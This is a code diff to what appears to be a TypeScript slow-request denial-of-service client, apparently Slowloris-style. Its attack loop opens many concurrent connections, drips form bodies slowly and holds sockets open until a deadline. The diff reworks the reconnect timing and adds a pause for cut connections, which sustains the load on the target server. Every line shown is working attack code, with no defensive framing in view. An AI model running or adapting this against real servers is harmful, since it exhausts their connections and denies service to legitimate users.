@@ -61,7 +61,10 @@ function next(): Request {
   return { head, body: filled, ...how };
 }
 
-/** Sends one form on a new connection and resolves once the server has closed the connection or has responded. */
+/** A pause for connections that are held, so that the attack is about what they hold. */
+const REOPEN_CUT_MS = 1_000;
+
+/** Sends one form on a new connection and resolves some time after the connection was closed. */
 const sendOne = (): Promise<void> =>
   new Promise((resolve) => {
     const { head, body, dripMs, isCut, from } = next();
@@ -89,16 +92,13 @@ const sendOne = (): Promise<void> =>
     socket.on('error', () => {});
     socket.on('close', () => {
       clearInterval(dripping);
-      resolve();
+      setTimeout(resolve, isCut === true ? REOPEN_CUT_MS : RECONNECT_MS);
     });
     setTimeout(() => socket.destroy(), endsAtMs + 1_000 - performance.now()).unref();
   });
 
 async function attack(): Promise<void> {
-  while (!isOver()) {
-    await sendOne();
-    await new Promise((resolve) => setTimeout(resolve, RECONNECT_MS));
-  }
+  while (!isOver()) await sendOne();
 }
 
 await Promise.all(Array.from({ length: Number(env('CONNECTIONS')) }, attack));
